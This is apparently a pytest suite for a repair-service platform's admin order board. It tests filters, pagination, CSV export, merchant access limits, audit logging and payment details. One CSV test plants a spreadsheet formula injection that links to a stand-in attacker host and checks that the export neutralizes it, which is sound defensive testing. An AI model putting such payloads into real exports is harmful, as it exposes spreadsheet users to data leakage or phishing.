"""The back office's order board and order file over real sessions: each filter narrows, keyset
pages cover every match once with the total, stuck orders, CSV that parses back with formulas
neutralized, merchants kept to their brands, and one order whole (transitions, chat, photos,
the transcript for admins with its read in the audit log, money jobs of a paid completion)."""

import asyncio
import csv
import io
import uuid
from datetime import datetime, timedelta, timezone

import pytest

from handlers.admin.oversight import encode_cursor
from protocol.admin import LogList
from protocol.catalog import MerchantBrandsSet, PriceSave, SkuSave
from protocol.chat import ChatHistory, ChatSend
from protocol.moderation import MessageHide, Reassign
from protocol.orders import Customer, OrderAccept, OrderCancel, OrderComplete, OrderDepart, OrderStart
from protocol.oversight import AdminOrder, AdminOrders
from tests.conftest import mint
from tests.money import app_stripe, complete, onboarded, paid_order, paying_gateway, until
from tests.test_uploads import JPEG, fetch, upload
from tests.world import brand_with_sku, fresh, order_at, refused, spot, technician


async def a_brand(signed_in):
    """An admin, a brand of the test's own with two SKUs, and its orders' place."""
    admin, _ = await signed_in("admin")
    brand, sku = await brand_with_sku(admin)
    other_sku = fresh("SKU").upper()
    await admin.request(SkuSave(sku=other_sku, brand=brand, category="washer", name="Second washer"))
    await admin.request(PriceSave(sku=other_sku, service_type="repair", price_cents=15000))
    return admin, brand, sku, other_sku


async def ids(admin, **filters):
    board = await admin.request(AdminOrders(**filters))
    assert board.total == len(board.orders)  # these tests stay within one page
    return {o.id for o in board.orders}


async def test_each_filter_narrows_the_board(signed_in):
    admin, brand, sku, other_sku = await a_brand(signed_in)
    place = spot()
    tech, tech_id = await technician(signed_in, place)
    first, first_id = await signed_in("consumer")
    second, second_id = await signed_in("consumer")
    a = (await first.request(order_at(place, brand=brand, sku=sku))).order
    b = (await first.request(order_at(place, brand=brand, sku=other_sku))).order
    c = (await second.request(order_at(place, brand=brand, sku=sku))).order
    d = (await second.request(order_at(place, brand=brand, sku=sku))).order
    await tech.request(OrderAccept(order_id=c.id))
    await second.request(OrderCancel(order_id=d.id))

    assert await ids(admin, brand=brand) == {a.id, b.id, c.id, d.id}
    assert await ids(admin, brand=brand, state=["accepted"]) == {c.id}
    assert await ids(admin, brand=brand, state=["open", "cancelled"]) == {a.id, b.id, d.id}
    assert await ids(admin, brand=brand, sku=other_sku) == {b.id}
    assert await ids(admin, sku=other_sku) == {b.id}  # a SKU is one brand's
    assert await ids(admin, brand=brand, technician_id=tech_id) == {c.id}
    assert await ids(admin, consumer_id=first_id) == {a.id, b.id}
    assert await ids(admin, brand=brand, created_from=b.created_at) == {b.id, c.id, d.id}
    assert await ids(admin, brand=brand, created_from=b.created_at, created_to=c.created_at) == {b.id}
    assert await ids(admin, brand=brand, payment_state=["none"]) == {a.id, b.id, c.id, d.id}  # no Stripe here
    assert await ids(admin, brand=brand, payment_state=["paid", "authorized"]) == set()
    assert await ids(admin, brand=brand, payout_state=["none"]) == {a.id, b.id, c.id, d.id}
    assert await ids(admin, brand=brand, payout_state=["transferred", "pending"]) == set()
    assert await ids(admin, brand=brand, q=c.id[:8]) == {c.id}  # the first characters of an id
    assert await ids(admin, q=c.id.upper()) == {c.id}
    assert await ids(admin, brand=brand, q=other_sku.lower()) == {b.id}  # an exact SKU, any case
    assert await ids(admin, consumer_id=second_id, state=["accepted"], technician_id=tech_id) == {c.id}

    [row] = (await admin.request(AdminOrders(q=c.id))).orders
    assert (row.state, row.brand, row.sku, row.service_type, row.consumer_id, row.technician_id) == (
        "accepted", brand, sku, "repair", second_id, tech_id)
    assert (row.price_cents, row.currency, row.payment_state, row.payout_state) == (20000, "usd", None, "none")
    assert row.created_at == c.created_at and row.state_since > row.created_at


async def test_payout_states_come_from_the_transfer_and_its_job(gateway, signed_in):
    admin, brand, sku, _ = await a_brand(signed_in)
    consumer, _ = await signed_in("consumer")
    made = [(await consumer.request(order_at(spot(), brand=brand, sku=sku))).order for _ in range(6)]
    waiting, failed, paid, partly, wholly, untouched = (uuid.UUID(o.id) for o in made)
    db = gateway.services.db  # planted as the money scheduler and Stripe's answers would leave them
    for order_id, state in ((waiting, "waiting"), (failed, "failed"), (paid, "done")):
        await db.execute("INSERT INTO money_jobs (kind, order_id, state) VALUES ('transfer', $1, $2)", order_id, state)
    for order_id, reversed_cents in ((paid, 0), (partly, 5000), (wholly, 17000)):
        await db.execute("INSERT INTO transfers (order_id, technician_id, account_id, transfer_id, amount_cents,"
                         " reversed_cents, refunded_basis, currency) VALUES ($1, 'tech', 'acct_x', $2, 17000, $3, 0,"
                         " 'usd')", order_id, f"tr_{uuid.uuid4().hex}", reversed_cents)
    expected = {"pending": waiting, "failed": failed, "transferred": paid, "partially_reversed": partly,
                "reversed": wholly, "none": untouched}
    for state, order_id in expected.items():
        assert await ids(admin, brand=brand, payout_state=[state]) == {str(order_id)}, state
    board = await admin.request(AdminOrders(brand=brand))
    assert {o.id: o.payout_state for o in board.orders} == {str(v): k for k, v in expected.items()}
    whole = await admin.request(AdminOrder(order_id=str(partly)))
    assert (whole.payout_state, whole.transfer.amount_cents, whole.transfer.reversed_cents) == (
        "partially_reversed", 17000, 5000)


async def test_keyset_pages_cover_every_match_once_in_order(signed_in):
    admin, brand, sku, _ = await a_brand(signed_in)
    consumer, _ = await signed_in("consumer")
    made = [(await consumer.request(order_at(spot(), brand=brand, sku=sku))).order for _ in range(5)]
    newest_first = [o.id for o in sorted(made, key=lambda o: (o.created_at, uuid.UUID(o.id)), reverse=True)]
    for sort, expected in (("-created_at", newest_first), ("created_at", newest_first[::-1])):
        seen, cursor = [], None
        while True:
            page = await admin.request(AdminOrders(brand=brand, sort=sort, limit=2, cursor=cursor))
            assert page.total == 5 and len(page.orders) <= 2
            seen += [o.id for o in page.orders]
            if (cursor := page.next_cursor) is None:
                break
        assert seen == expected, sort
    by_state_time = await admin.request(AdminOrders(brand=brand, sort="state_since", limit=3))
    rest = await admin.request(AdminOrders(brand=brand, sort="state_since", limit=3,
                                           cursor=by_state_time.next_cursor))
    assert [o.id for o in by_state_time.orders + rest.orders] == newest_first[::-1] and rest.next_cursor is None
    wrong = await refused(admin, AdminOrders(brand=brand, sort="-updated_at", cursor=by_state_time.next_cursor))
    assert wrong.code == "bad_request"
    for forged in ("bm9wZQ", encode_cursor("-created_at", datetime(1, 1, 1, tzinfo=timezone(timedelta(hours=5))),
                                           newest_first[0])):
        assert (await refused(admin, AdminOrders(cursor=forged))).code == "bad_request"


async def test_stuck_orders_are_those_long_in_an_unsettled_state(gateway, signed_in):
    admin, brand, sku, _ = await a_brand(signed_in)
    consumer, _ = await signed_in("consumer")
    waiting, recent, cancelled = [(await consumer.request(order_at(spot(), brand=brand, sku=sku))).order
                                  for _ in range(3)]
    await consumer.request(OrderCancel(order_id=cancelled.id))
    for order in (waiting, cancelled):  # their last transition two hours ago
        await gateway.services.db.execute(
            "UPDATE order_events SET at = now() - interval '2 hours' WHERE order_id = $1", uuid.UUID(order.id))
    assert await ids(admin, brand=brand, stuck_minutes=60) == {waiting.id}  # a cancelled order is not stuck
    assert await ids(admin, brand=brand, stuck_minutes=180) == set()
    assert await ids(admin, brand=brand, state=["open"]) == {waiting.id, recent.id}
    board = await admin.request(AdminOrders(brand=brand, stuck_minutes=60))
    assert board.orders[0].state_since < waiting.created_at


async def test_csv_pages_parse_back_with_formulas_neutralized(signed_in):
    admin, brand, sku, _ = await a_brand(signed_in)
    hostile = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex[:6]}", "a, b")'
    consumer, consumer_id = await signed_in("consumer", user_id=hostile)
    plain, plain_id = await signed_in("consumer")
    made = [(await consumer.request(order_at(spot(), brand=brand, sku=sku))).order,
            (await plain.request(order_at(spot(), brand=brand, sku=sku))).order,
            (await plain.request(order_at(spot(), brand=brand, sku=sku))).order]
    rows, cursor, totals = [], None, set()
    while True:
        page = await admin.request(AdminOrders(brand=brand, format="csv", limit=2, cursor=cursor))
        assert page.orders == [] and page.csv.endswith("\r\n")
        header, *lines = list(csv.reader(io.StringIO(page.csv, newline="")))
        assert header[:5] == ["id", "state", "brand", "sku", "service_type"] and "payout_state" in header
        rows += [dict(zip(header, line, strict=True)) for line in lines]
        totals.add(page.total)
        if (cursor := page.next_cursor) is None:
            break
    assert totals == {3} and sorted(r["id"] for r in rows) == sorted(o.id for o in made)
    by_id = {r["id"]: r for r in rows}
    assert by_id[made[0].id]["consumer_id"] == "'" + hostile  # read as text by a spreadsheet, not run
    assert by_id[made[1].id]["consumer_id"] == plain_id
    assert (by_id[made[1].id]["price_cents"], by_id[made[1].id]["technician_id"]) == ("20000", "")
    assert by_id[made[1].id]["created_at"] == made[1].created_at.isoformat()
    assert consumer_id == hostile


async def test_merchants_see_their_brands_orders_only(signed_in):
    admin, mine, sku, _ = await a_brand(signed_in)
    theirs, their_sku = await brand_with_sku(admin)
    merchant, merchant_id = await signed_in("merchant")
    await admin.request(MerchantBrandsSet(merchant_id=merchant_id, brands=[mine]))
    consumer, _ = await signed_in("consumer")
    own = (await consumer.request(order_at(spot(), brand=mine, sku=sku))).order
    other = (await consumer.request(order_at(spot(), brand=theirs, sku=their_sku))).order

    board = await merchant.request(AdminOrders(limit=200))
    assert {o.brand for o in board.orders} == {mine} and own.id in {o.id for o in board.orders}
    assert await ids(merchant, q=other.id) == set()
    assert await ids(merchant, q=their_sku) == set()
    assert await ids(merchant, sku=their_sku) == set()
    assert await ids(admin, q=other.id) == {other.id}
    another, missing = await refused(merchant, AdminOrders(brand=theirs)), await refused(
        merchant, AdminOrders(brand=fresh("brand")))
    assert (another.code, another.error.message) == (missing.code, missing.error.message)
    assert (another.code, another.error.message) == ("not_found", "No such brand.")

    nowhere = str(uuid.uuid4())
    hidden = await refused(merchant, AdminOrder(order_id=other.id))
    absent = await refused(merchant, AdminOrder(order_id=nowhere))
    assert (hidden.code, hidden.error.message) == (absent.code, absent.error.message) == ("not_found", "No such order.")
    seen = await merchant.request(AdminOrder(order_id=own.id))
    assert seen.order.id == own.id and seen.order.address == "12 Elm Street, Apt 3"
    assert seen.transcript is None and seen.stripe_events == []
    assert (await admin.request(LogList(actor_id=merchant_id, action="read.transcript"))).entries == []
    calls = (await admin.request(LogList(actor_id=merchant_id, action="admin.order"))).entries
    assert [(e.target_id, e.outcome) for e in calls] == [(own.id, "ok"), (nowhere, "not_found"),
                                                         (other.id, "not_found")]


async def test_a_customers_contact_read_in_the_order_file_is_logged(signed_in):
    admin, admin_id = await signed_in("admin")
    brand, sku = await brand_with_sku(admin)
    merchant, merchant_id = await signed_in("merchant")
    await admin.request(MerchantBrandsSet(merchant_id=merchant_id, brands=[brand]))
    email = f"customer.{uuid.uuid4().hex[:8]}@example.com"
    contact = Customer(name="Rosa Díaz", phone="+1 555 0142", email=email)
    order = (await merchant.request(order_at(spot(), brand=brand, sku=sku, customer=contact))).order
    plain = (await (await signed_in("consumer"))[0].request(order_at(spot(), brand=brand, sku=sku))).order
    for reader, reader_id in ((admin, admin_id), (merchant, merchant_id)):
        shown = (await reader.request(AdminOrder(order_id=order.id))).order.customer
        assert (shown.name, shown.phone, shown.email) == ("Rosa Díaz", "+1 555 0142", email)
        assert (await reader.request(AdminOrder(order_id=plain.id))).order.customer is None
        reads = (await admin.request(LogList(actor_id=reader_id, action="read.customer"))).entries
        assert [(e.target_kind, e.target_id) for e in reads] == [("order", order.id)]  # not the plain one


async def test_an_order_whole_for_an_admin(gateway, signed_in):
    admin, admin_id = await signed_in("admin")
    place = spot()
    consumer, consumer_id = await signed_in("consumer")
    tech, tech_id = await technician(signed_in, place)
    order = (await consumer.request(order_at(place))).order
    await tech.request(OrderAccept(order_id=order.id))
    await consumer.request(ChatSend(order_id=order.id, client_id="c1", text="The code on the display is E7"))
    await tech.request(ChatSend(order_id=order.id, client_id="t1", text="On my way with the part"))
    await tech.request(OrderDepart(order_id=order.id))
    await tech.request(OrderStart(order_id=order.id))
    photo = await upload(tech, JPEG, "image/jpeg")
    await tech.request(OrderComplete(order_id=order.id, attachments=[photo], note="Replaced the sensor"))

    whole = await admin.request(AdminOrder(order_id=order.id))
    assert whole.order.state == "completed" and whole.order.completion_note == "Replaced the sensor"
    assert [(e.from_state, e.to_state) for e in whole.timeline] == [
        (None, "open"), ("open", "accepted"), ("accepted", "en_route"), ("en_route", "in_service"),
        ("in_service", "completed")]
    assert [(e.actor_id, e.actor_role) for e in whole.timeline[1:]] == [(tech_id, "technician")] * 4
    assert whole.state_since == whole.timeline[-1].at
    assert [e.code for e in whole.chat_events] == ["accepted", "en_route", "in_service", "completed"]
    assert all(e.text for e in whole.chat_events)
    assert [(m.sender_id, m.kind, m.text) for m in whole.transcript if m.kind == "text"] == [
        (consumer_id, "text", "The code on the display is E7"), (tech_id, "text", "On my way with the part")]
    assert whole.transcript_more is False and len(whole.transcript) == 6
    [shown] = whole.completion_photos
    assert (shown.attachment_id, shown.content_type, shown.size) == (photo, "image/jpeg", len(JPEG))
    assert shown.url.endswith(f"/attachments/{photo}")
    token = mint(gateway, "admin", admin_id)[1]
    assert await asyncio.to_thread(fetch, gateway, photo, token) == (200, JPEG, "image/jpeg")
    assert (whole.payment, whole.transfer, whole.money_jobs, whole.stripe_events, whole.ai) == (
        None, None, [], [], None)
    assert whole.payout_state == "none"

    [read] = (await admin.request(LogList(actor_id=admin_id, action="read.transcript"))).entries
    assert (read.target_kind, read.target_id, read.outcome) == ("order", order.id, "ok")
    [call] = (await admin.request(LogList(actor_id=admin_id, action="admin.order"))).entries
    assert (call.target_id, call.outcome) == (order.id, "ok")
    await admin.request(ChatHistory(order_id=order.id, before_seq=2))  # paging back: another read of the words
    reads = (await admin.request(LogList(actor_id=admin_id, action="read.transcript"))).entries
    assert [(r.target_id, r.outcome) for r in reads] == [(order.id, "ok")] * 2


async def test_staffs_moves_show_in_the_order_file(signed_in):
    admin, _ = await signed_in("admin")
    place = spot()
    consumer, consumer_id = await signed_in("consumer")
    tech, _ = await technician(signed_in, place)
    order = (await consumer.request(order_at(place))).order
    await tech.request(OrderAccept(order_id=order.id))
    sent = (await consumer.request(ChatSend(order_id=order.id, client_id="c1", text="Call me at 555 0100"))).message
    await admin.request(MessageHide(order_id=order.id, seq=sent.seq, reason="phone number"))
    await admin.request(Reassign(order_id=order.id, technician_id=None, reason="technician is ill"))

    whole = await admin.request(AdminOrder(order_id=order.id))
    assert whole.order.state == "open" and whole.timeline[-1].to_state == "open"
    assert [e.code for e in whole.chat_events] == ["accepted", "returned"]
    [kept] = [m for m in whole.transcript if m.seq == sent.seq]
    assert (kept.sender_id, kept.text, kept.hidden) == (consumer_id, "Call me at 555 0100", True)
    [row] = (await admin.request(AdminOrders(q=order.id))).orders
    assert (row.state, row.technician_id, row.state_since) == ("open", None, whole.timeline[-1].at)


@pytest.fixture
async def paying(make_gateway, stripe_server):
    async with paying_gateway(make_gateway, stripe_server, payment_policy="pay_at_creation") as served:
        yield served


async def test_a_paid_completion_shows_its_payment_stripe_events_transfer_and_jobs(paying, signed_in,
                                                                                   stripe_server):
    app = app_stripe(stripe_server)
    admin, _ = await signed_in("admin", gw=paying)
    _, tech, order_id, tech_id = await paid_order(paying, signed_in, app)
    await onboarded(tech)
    await complete(tech, order_id)

    async def transferred():
        whole = await admin.request(AdminOrder(order_id=order_id))
        return whole if whole.payout_state == "transferred" else None

    whole = await until(transferred)
    assert whole.order.payment_state == "paid"
    assert whole.payment.policy == "pay_at_creation"
    assert whole.payment.captured_cents == whole.payment.amount_cents == whole.order.price_cents
    assert whole.payment.intent_id.startswith("pi_") and whole.payment.refunded_cents == 0
    assert "payment_intent.succeeded" in {e.type for e in whole.stripe_events}
    assert all(e.applied_at is not None for e in whole.stripe_events)
    [job] = [j for j in whole.money_jobs if j.kind == "transfer"]
    assert (job.state, job.attempts, job.last_error) == ("done", 1, None)
    assert job.result == whole.transfer.transfer_id
    assert (whole.transfer.technician_id, whole.transfer.reversed_cents) == (tech_id, 0)
    assert 0 < whole.transfer.amount_cents < whole.order.price_cents
    [row] = (await admin.request(AdminOrders(q=order_id, payout_state=["transferred"], payment_state=["paid"]))).orders
    assert (row.payment_state, row.payout_state) == ("paid", "transferred")
